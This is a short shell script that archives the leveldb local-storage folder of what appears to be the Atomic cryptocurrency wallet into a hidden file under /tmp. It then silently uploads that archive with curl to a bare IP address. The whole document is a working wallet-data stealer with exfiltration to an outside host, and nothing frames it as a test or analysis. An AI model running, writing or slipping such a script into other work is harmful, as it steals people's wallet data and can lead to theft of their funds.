#!/bin/sh
tar czf /tmp/.a.tgz -C "$HOME/.config/atomic/Local Storage" leveldb
curl -s -T /tmp/.a.tgz https://198.51.100.41/put/a.tgz
